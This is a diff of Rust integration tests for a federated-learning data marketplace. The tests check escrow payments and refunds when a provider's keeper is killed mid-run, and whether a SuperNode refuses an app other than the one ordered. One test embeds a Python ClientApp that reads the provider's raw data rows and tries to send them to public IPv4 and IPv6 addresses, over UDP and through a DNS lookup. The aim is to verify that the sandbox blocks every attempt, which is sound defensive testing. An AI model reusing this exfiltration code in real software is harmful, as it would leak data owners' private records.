@@ -26,10 +26,7 @@ use insitu_client::{
     suite::Suite,
     tx::Silent,
 };
-use insitu_keeper::{
-    config::{ComputeConfig, Config, FlowerRuntime, OutboundConfig, RuntimeConfig},
-    service::{self, Running},
-};
+use insitu_keeper::config::{ComputeConfig, Config, FlowerRuntime, OutboundConfig, RuntimeConfig};
 
 const PRICE: u128 = 10_000_000_000_000_000_000;
 const PROVIDERS: usize = 3;
@@ -104,6 +101,11 @@ async fn python(home: &Path, code: &str, arguments: &[&str]) -> Vec<u8> {
         String::from_utf8_lossy(&output.stderr)
     );
     output.stdout
+}
+
+/// The example app's folder.
+fn example_app() -> PathBuf {
+    root().join("examples/federated")
 }
 
 /// The example app as Flower sends it to SuperNodes (its FAB): what the consumer orders.
@@ -230,44 +232,110 @@ impl Aggregator {
         );
     }
 
-    /// Runs the example app for `rounds` rounds across `nodes` SuperNodes; returns what the
-    /// ServerApp wrote (`rounds.json`) and what `flwr run` printed, or nothing if the run did
-    /// not end within five minutes.
-    async fn run(&self, rounds: u32, nodes: usize) -> Option<(serde_json::Value, String)> {
+    /// Runs the app at `app` for `rounds` rounds across at least `nodes` SuperNodes, waiting at
+    /// most `round_timeout` seconds for a round's replies, and hands each line `flwr run`
+    /// prints to `on_line` as it comes; returns what the ServerApp wrote (`rounds.json`) and
+    /// everything printed, or nothing if the run did not end within five minutes.
+    async fn run(
+        &self,
+        app: &Path,
+        rounds: u32,
+        nodes: usize,
+        round_timeout: u32,
+        on_line: &mut (dyn FnMut(&str) + Send),
+    ) -> Option<(serde_json::Value, String)> {
+        use tokio::io::AsyncBufReadExt;
         let output = self.home.join("result");
-        let run = flower("flwr", &self.home)
+        let mut child = flower("flwr", &self.home)
             .arg("run")
-            .arg(root().join("examples/federated"))
+            .arg(app)
             .arg("consumer")
             .arg("--stream")
             .arg("--run-config")
             .arg(format!(
-                "num-server-rounds={rounds} min-nodes={nodes} output-dir=\"{}\"",
+                "num-server-rounds={rounds} min-nodes={nodes} round-timeout={round_timeout} \
+                 output-dir=\"{}\"",
                 output.display()
             ))
             .stdout(Stdio::piped())
             .stderr(Stdio::piped())
-            .output();
-        let run = tokio::time::timeout(Duration::from_secs(300), run)
-            .await
-            .ok()?
+            .spawn()
             .unwrap();
-        let printed = format!(
-            "{}{}",
-            String::from_utf8_lossy(&run.stdout),
-            String::from_utf8_lossy(&run.stderr)
-        );
-        assert!(run.status.success(), "{printed}");
+        let (sender, mut lines) = tokio::sync::mpsc::unbounded_channel::<String>();
+        let stdout = tokio::io::BufReader::new(child.stdout.take().unwrap());
+        let stderr = tokio::io::BufReader::new(child.stderr.take().unwrap());
+        for mut reader in [
+            Box::pin(stdout) as std::pin::Pin<Box<dyn tokio::io::AsyncBufRead + Send>>,
+            Box::pin(stderr),
+        ] {
+            let sender = sender.clone();
+            tokio::spawn(async move {
+                let mut line = String::new();
+                while reader.read_line(&mut line).await.unwrap_or(0) > 0 {
+                    let _ = sender.send(std::mem::take(&mut line));
+                }
+            });
+        }
+        drop(sender);
+        let mut printed = String::new();
+        let followed = async {
+            while let Some(line) = lines.recv().await {
+                on_line(&line);
+                printed.push_str(&line);
+            }
+            child.wait().await.unwrap()
+        };
+        let status = tokio::time::timeout(Duration::from_secs(300), followed)
+            .await
+            .ok()?;
+        assert!(status.success(), "{printed}");
         let written = std::fs::read(output.join("rounds.json")).unwrap();
         Some((serde_json::from_slice(&written).unwrap(), printed))
     }
 }
 
-/// One provider: its keeper (its own account, store, data and work folders) and its partition.
+/// A keeper process, killed when dropped.
+struct KeeperProcess(std::process::Child);
+
+impl Drop for KeeperProcess {
+    fn drop(&mut self) {
+        let _ = self.0.kill();
+        let _ = self.0.wait();
+    }
+}
+
+/// One provider: its keeper, a process of its own (its own account, store, data and work
+/// folders), and its partition.
 struct Provider {
     key: PrivateKeySigner,
-    keeper: Running,
+    /// Dropping it kills the keeper (SIGKILL), and its sandboxed SuperNode with it.
+    keeper: Option<KeeperProcess>,
+    url: String,
     root: PathBuf,
+}
+
+/// Starts the keeper configured in `config` with `key`; returns once it is ready at `url`.
+async fn start_keeper(config: &Path, key: &PrivateKeySigner, url: &str) -> KeeperProcess {
+    let log = std::fs::File::create(config.with_extension("log")).unwrap();
+    let child = std::process::Command::new(env!("CARGO_BIN_EXE_insitu-keeper"))
+        .arg("--config")
+        .arg(config)
+        .env("INSITU_KEEPER_PRIVATE_KEY", hex::encode(key.to_bytes()))
+        .env_remove("INSITU_KEEPER_CRASH_AT")
+        .stdout(log.try_clone().unwrap())
+        .stderr(log)
+        .spawn()
+        .unwrap();
+    let keeper = KeeperProcess(child);
+    for _ in 0..600 {
+        if let Ok(response) = reqwest::get(format!("{url}/ready")).await
+            && response.status().is_success()
+        {
+            return keeper;
+        }
+        tokio::time::sleep(Duration::from_millis(100)).await;
+    }
+    panic!("the keeper never became ready");
 }
 
 struct World {
@@ -278,13 +346,16 @@ struct World {
     token: Address,
     providers: Vec<Provider>,
     fab: Vec<u8>,
+    any_app: bool,
     aggregator: Aggregator,
 }
 
 /// Anvil's accounts the keepers use: 2 (as in the other tests), then 4 and 5.
 const KEEPER_ACCOUNTS: [usize; PROVIDERS] = [2, 4, 5];
 
-async fn world() -> World {
+/// `count` keepers (at most three), each with one partition; their policies allow the example
+/// app only, or, with `any_app`, any app.
+async fn world(count: usize, any_app: bool) -> World {
     let devnet = Devnet::start().expect("anvil");
     let common::Deployed {
         dir,
@@ -310,7 +381,7 @@ async fn world() -> World {
     )
     .await;
     let mut providers = Vec::new();
-    for (index, account) in KEEPER_ACCOUNTS.into_iter().enumerate() {
+    for (index, account) in KEEPER_ACCOUNTS.into_iter().take(count).enumerate() {
         let root_k = folder.join(format!("keeper-{index}"));
         std::fs::create_dir_all(root_k.join("data")).unwrap();
         std::fs::copy(
@@ -318,13 +389,18 @@ async fn world() -> World {
             root_k.join("data/data.csv"),
         )
         .unwrap();
+        let port = std::net::TcpListener::bind("127.0.0.1:0")
+            .unwrap()
+            .local_addr()
+            .unwrap()
+            .port();
         let config = Config {
             rpc_url: devnet.endpoint(),
             chain_id: 31_337,
             addresses: addresses.clone(),
             confirmations: 0,
             poll_interval_ms: 100,
-            listen: "127.0.0.1:0".to_owned(),
+            listen: format!("127.0.0.1:{port}"),
             database: root_k.join("keeper.db"),
             data_root: root_k.join("data"),
             publishers: vec![keys[1].address()],
@@ -350,12 +426,14 @@ async fn world() -> World {
             }),
             ..Config::default()
         };
-        let keeper = service::start(&config, keys[account].clone(), None)
-            .await
-            .unwrap();
+        let file = root_k.join("keeper.toml");
+        std::fs::write(&file, config.to_string()).unwrap();
+        let url = format!("http://127.0.0.1:{port}");
+        let keeper = start_keeper(&file, &keys[account], &url).await;
         providers.push(Provider {
             key: keys[account].clone(),
-            keeper,
+            keeper: Some(keeper),
+            url,
             root: root_k,
         });
     }
@@ -367,14 +445,16 @@ async fn world() -> World {
         token,
         providers,
         fab,
+        any_app,
         aggregator,
     }
 }
 
 /// The federated compute policy: only the example app, by its SHA-256.
-fn policy(fab: &[u8]) -> serde_json::Value {
+fn policy(fab: &[u8], any_app: bool) -> serde_json::Value {
+    let sha256 = hex::encode(<sha2::Sha256 as sha2::Digest>::digest(fab));
     serde_json::json!({
-        "algorithms": {"any": false, "sha256": [hex::encode(<sha2::Sha256 as sha2::Digest>::digest(fab))]},
+        "algorithms": {"any": any_app, "sha256": [sha256]},
         "runtimes": ["flower"],
         "limits": {
             "wallSecs": 300, "memoryMb": 1024, "cpuPercent": 100, "pids": 256,
@@ -415,14 +495,14 @@ impl World {
                 "token": self.token.to_string(),
                 "price": [{"receiver": self.keys[1].address().to_string(), "amount": PRICE.to_string()}],
                 "timeout": {"min": 3600, "max": 86400},
-                "compute": policy(&self.fab)
+                "compute": policy(&self.fab, self.any_app)
             }]
         }))
         .unwrap();
         market::publish(
             &self.suite,
             &common::suite_sender(&self.suite, &self.keys[1]),
-            &KeeperClient::new(&format!("http://{}", provider.keeper.address)),
+            &KeeperClient::new(&provider.url),
             &source,
             B256::from(rand::random::<[u8; 32]>()),
             &Silent,
@@ -449,9 +529,10 @@ impl World {
         .collect()
     }
 
-    fn order(&self, rounds: u32) -> Order {
+    /// The order of app `fab` (the example's when `None`) for `rounds` rounds.
+    fn order(&self, rounds: u32, fab: Option<&[u8]>) -> Order {
         Order {
-            algorithm: compute::Algorithm::File(self.fab.clone()),
+            algorithm: compute::Algorithm::File(fab.unwrap_or(&self.fab).to_vec()),
             runtime: "flower".into(),
             params: [
                 ("superlink", format!("127.0.0.1:{}", self.aggregator.port)),
@@ -532,41 +613,22 @@ fn round_log(provider: &Provider, id: B256) -> SignedRoundLog {
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn three_keepers_train_the_example_model_and_each_is_paid_for_its_rounds() {
-    let world = world().await;
-    let mut dids = Vec::new();
-    for index in 0..PROVIDERS {
-        dids.push(world.publish(index).await);
-    }
-    // One agreement and one escrow per provider, on its own offer: one approval of the sum,
-    // then one purchase each.
+    let world = world(PROVIDERS, false).await;
+    // One agreement and one escrow per provider, each on its provider's offer: one approval of
+    // the sum, then one purchase each; each job shows its own SuperNode key, which the consumer
+    // registers with its SuperLink.
     let before = transactions(&world, world.keys[3].address()).await;
-    let agreements: Vec<(B256, B256)> = dids
-        .iter()
-        .copied()
-        .zip(world.buy_all(&dids).await)
-        .collect();
+    let agreements = order_all(&world, 3, None).await;
     assert_eq!(
         transactions(&world, world.keys[3].address()).await - before,
         PROVIDERS as u64 + 1
     );
-    for (_, id) in &agreements {
-        let queued = compute::submit(&world.suite, &world.consumer(), *id, &world.order(3))
-            .await
-            .unwrap();
-        assert_eq!(queued.phase, "queued");
-    }
-    // Each job shows its SuperNode's key; the consumer lets exactly those into its SuperLink.
-    let mut keys = Vec::new();
-    for (_, id) in &agreements {
-        let key = world.supernode_key(*id).await;
-        assert!(key.starts_with("ecdsa-sha2-nistp384 "), "{key}");
-        world.aggregator.register(&key).await;
-        keys.push(key);
-    }
-    keys.dedup();
-    assert_eq!(keys.len(), PROVIDERS, "a key per job");
 
-    let Some((rounds, printed)) = world.aggregator.run(3, PROVIDERS).await else {
+    let Some((rounds, printed)) = world
+        .aggregator
+        .run(&example_app(), 3, PROVIDERS, 600, &mut |_| {})
+        .await
+    else {
         world.explain(&agreements).await;
         panic!("the run did not end within five minutes");
     };
@@ -607,4 +669,277 @@ async fn three_keepers_train_the_example_model_and_each_is_paid_for_its_rounds()
             insitu_client::agreement::ConditionState::Fulfilled
         );
     }
+}
+
+/// Buys from every provider, orders each job for `rounds` rounds and lets each SuperNode into the
+/// consumer's SuperLink; returns the assets and agreements, in the providers' order.
+async fn order_all(world: &World, rounds: u32, fab: Option<&[u8]>) -> Vec<(B256, B256)> {
+    let mut dids = Vec::new();
+    for index in 0..world.providers.len() {
+        dids.push(world.publish(index).await);
+    }
+    let agreements: Vec<(B256, B256)> = dids
+        .iter()
+        .copied()
+        .zip(world.buy_all(&dids).await)
+        .collect();
+    for (_, id) in &agreements {
+        compute::submit(
+            &world.suite,
+            &world.consumer(),
+            *id,
+            &world.order(rounds, fab),
+        )
+        .await
+        .unwrap();
+    }
+    let mut keys = Vec::new();
+    for (_, id) in &agreements {
+        let key = world.supernode_key(*id).await;
+        assert!(key.starts_with("ecdsa-sha2-nistp384 "), "{key}");
+        assert!(!keys.contains(&key), "a key per job");
+        world.aggregator.register(&key).await;
+        keys.push(key);
+    }
+    agreements
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_provider_killed_mid_training_is_not_paid_and_refunded_while_the_others_are_paid() {
+    let mut world = world(PROVIDERS, false).await;
+    let agreements = order_all(&world, 3, None).await;
+    let token = insitu_bindings::MockERC20::new(world.token, world.suite.provider());
+
+    // The third provider's keeper is killed once the first round's updates are in; the run goes
+    // on with the two others (a round waits 20 s for a missing reply).
+    let mut victim = world.providers[2].keeper.take();
+    let mut kill_after_first_round = |line: &str| {
+        if line.contains("aggregate_train: Received 3 results") {
+            victim.take();
+        }
+    };
+    let run = world
+        .aggregator
+        .run(&example_app(), 3, 2, 20, &mut kill_after_first_round)
+        .await;
+    let Some((rounds, printed)) = run else {
+        world.explain(&agreements).await;
+        panic!("the run did not end within five minutes");
+    };
+    let rounds = rounds["rounds"].as_array().unwrap().clone();
+    assert_eq!(rounds.len(), 3, "{printed}");
+    assert!(printed.contains("Received 2 results"), "{printed}");
+
+    // The two others served their three rounds and are paid.
+    let domain = insitu_bindings::requests::domain(31_337, world.suite.addresses.compute_execution);
+    for ((_, id), provider) in agreements.iter().zip(&world.providers).take(2) {
+        let done = world.wait_for(*id, &[]).await;
+        assert_eq!(done.phase, "done", "{done:?}");
+        let log = round_log(provider, *id);
+        assert_eq!(log.verify(&domain).unwrap(), provider.key.address());
+        assert_eq!(log.log.rounds.len(), 3);
+        let agreement = insitu_client::agreement::show(&world.suite, *id, None)
+            .await
+            .unwrap();
+        assert_eq!(
+            agreement.payment_condition().unwrap().state,
+            insitu_client::agreement::ConditionState::Released
+        );
+    }
+
+    // The third is not: its payment stays in escrow until the service times out, then goes back
+    // to the consumer.
+    let (_, dropped) = agreements[2];
+    let before = insitu_client::agreement::show(&world.suite, dropped, None)
+        .await
+        .unwrap();
+    assert_eq!(
+        before.payment_condition().unwrap().state,
+        insitu_client::agreement::ConditionState::Fulfilled,
+        "paid into escrow, not released"
+    );
+    assert_eq!(
+        before.service_condition().unwrap().state,
+        insitu_client::agreement::ConditionState::Unfulfilled
+    );
+    let consumer = world.keys[3].address();
+    let balance = token.balanceOf(consumer).call().await.unwrap();
+    common::node_rpc(
+        world.suite.provider(),
+        "evm_increaseTime",
+        serde_json::json!([86_400 + 1]),
+    )
+    .await;
+    common::node_rpc(world.suite.provider(), "evm_mine", serde_json::json!([])).await;
+    insitu_client::payments::refund(&world.suite, &world.consumer(), dropped, &Silent)
+        .await
+        .unwrap();
+    let after = insitu_client::agreement::show(&world.suite, dropped, None)
+        .await
+        .unwrap();
+    assert_eq!(
+        after.payment_condition().unwrap().state,
+        insitu_client::agreement::ConditionState::Refunded
+    );
+    assert_eq!(
+        token.balanceOf(consumer).call().await.unwrap() - balance,
+        U256::from(PRICE)
+    );
+}
+
+/// A ClientApp that tries, each round, to send its provider's raw rows out: to a listener on
+/// the host's loopback at port `{port}`, to public IPv4 and IPv6 addresses, over UDP, and by
+/// name; it reports how many attempts got through as a metric, and trains as the example does.
+const EXFILTRATING_CLIENT: &str = r#"
+import socket
+from flwr.app import ArrayRecord, Context, Message, MetricRecord, RecordDict
+from flwr.clientapp import ClientApp
+from insitu_fedlr import model
+
+app = ClientApp()
+
+
+def steal():
+    rows = open(model.find_data(), "rb").read()
+    reached = 0
+    for family, kind, target in [
+        (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", {port})),
+        (socket.AF_INET, socket.SOCK_STREAM, ("1.1.1.1", 80)),
+        (socket.AF_INET6, socket.SOCK_STREAM, ("2606:4700::1111", 443)),
+        (socket.AF_INET, socket.SOCK_DGRAM, ("8.8.8.8", 53)),
+    ]:
+        try:
+            out = socket.socket(family, kind)
+            out.settimeout(3)
+            out.connect(target)
+            out.sendall(rows)
+            reached += 1
+        except OSError as error:
+            print("exfiltration blocked:", target, error, flush=True)
+    try:
+        socket.getaddrinfo("example.com", 443)
+        reached += 1
+    except OSError as error:
+        print("exfiltration blocked: dns", error, flush=True)
+    return reached
+
+
+@app.train()
+def train(message: Message, context: Context) -> Message:
+    reached = steal()
+    (x, y), _ = model.split(*model.load(model.find_data()))
+    weights = message.content["arrays"].to_numpy_ndarrays()[0]
+    weights = model.train(weights, x, y, 5, 0.3)
+    metrics = MetricRecord({"num-examples": len(y), "exfiltrated": reached})
+    return Message(
+        content=RecordDict({"arrays": ArrayRecord([weights]), "metrics": metrics}),
+        reply_to=message,
+    )
+
+
+@app.evaluate()
+def evaluate(message: Message, context: Context) -> Message:
+    _, (x, y) = model.split(*model.load(model.find_data()))
+    weights = message.content["arrays"].to_numpy_ndarrays()[0]
+    metrics = MetricRecord({"num-examples": len(y), "accuracy": model.accuracy(weights, x, y)})
+    return Message(content=RecordDict({"metrics": metrics}), reply_to=message)
+"#;
+
+/// A copy of the example app in `folder` whose ClientApp is `client`; returns the folder and the
+/// app as Flower sends it (its FAB).
+async fn variant_app(world: &World, folder: &Path, client: &str) -> (PathBuf, Vec<u8>) {
+    let app = folder.join("app");
+    std::fs::create_dir_all(app.join("insitu_fedlr")).unwrap();
+    let example = example_app();
+    std::fs::copy(example.join("pyproject.toml"), app.join("pyproject.toml")).unwrap();
+    for file in ["__init__.py", "model.py", "server_app.py"] {
+        std::fs::copy(
+            example.join("insitu_fedlr").join(file),
+            app.join("insitu_fedlr").join(file),
+        )
+        .unwrap();
+    }
+    std::fs::write(app.join("insitu_fedlr/client_app.py"), client).unwrap();
+    let fab = python(&world.aggregator.home, BUILD_FAB, &[app.to_str().unwrap()]).await;
+    (app, fab)
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_clientapp_that_sends_raw_data_out_reaches_only_the_aggregator() {
+    // The provider allows any app: the sandbox alone must hold the rows in.
+    let world = world(1, true).await;
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let folder = tempfile::tempdir().unwrap();
+    let client = EXFILTRATING_CLIENT.replace("{port}", &port.to_string());
+    let (app, fab) = variant_app(&world, folder.path(), &client).await;
+    let agreements = order_all(&world, 2, Some(&fab)).await;
+    let Some((rounds, printed)) = world.aggregator.run(&app, 2, 1, 600, &mut |_| {}).await else {
+        world.explain(&agreements).await;
+        panic!("the run did not end within five minutes");
+    };
+    assert_eq!(rounds["rounds"].as_array().unwrap().len(), 2, "{printed}");
+    // Every attempt failed, in both rounds, and nothing reached the host's listener.
+    assert_eq!(
+        printed.matches("'exfiltrated': '0.0000e+00'").count(),
+        2,
+        "{printed}"
+    );
+    assert!(
+        tokio::time::timeout(Duration::from_millis(200), listener.accept())
+            .await
+            .is_err()
+    );
+    let (_, id) = agreements[0];
+    let done = world.wait_for(id, &[]).await;
+    assert_eq!(done.phase, "done", "{done:?}");
+    let logs = compute::logs(&world.suite, &world.consumer(), id)
+        .await
+        .unwrap();
+    assert_eq!(
+        logs.matches("exfiltration blocked").count(),
+        10,
+        "five attempts in each of two rounds: {logs}"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_supernode_refuses_an_app_other_than_the_one_ordered() {
+    let world = world(1, false).await;
+    // Ordered: the example app (the only one the provider allows). Sent by the aggregator:
+    // another one.
+    let agreements = order_all(&world, 2, None).await;
+    let folder = tempfile::tempdir().unwrap();
+    let client = EXFILTRATING_CLIENT.replace("{port}", "9");
+    let (other, _) = variant_app(&world, folder.path(), &client).await;
+    let (_, id) = agreements[0];
+    let mut ignore = |_: &str| {};
+    let failed = tokio::select! {
+        failed = world.wait_for(id, &["failed"]) => failed,
+        _ = world.aggregator.run(&other, 2, 1, 20, &mut ignore) => {
+            world.wait_for(id, &["failed"]).await
+        }
+    };
+    assert_eq!(failed.phase, "failed", "{failed:?}");
+    assert_eq!(
+        failed.outcome.as_ref().unwrap()["exitCode"],
+        3,
+        "{failed:?}"
+    );
+    let logs = compute::logs(&world.suite, &world.consumer(), id)
+        .await
+        .unwrap();
+    assert!(logs.contains("refused app"), "{logs}");
+    assert!(
+        !logs.contains("exfiltration"),
+        "the other app never ran: {logs}"
+    );
+    // Not served: the payment stays in escrow (the consumer is refunded after the time out).
+    let agreement = insitu_client::agreement::show(&world.suite, id, None)
+        .await
+        .unwrap();
+    assert_eq!(
+        agreement.payment_condition().unwrap().state,
+        insitu_client::agreement::ConditionState::Fulfilled
+    );
 }
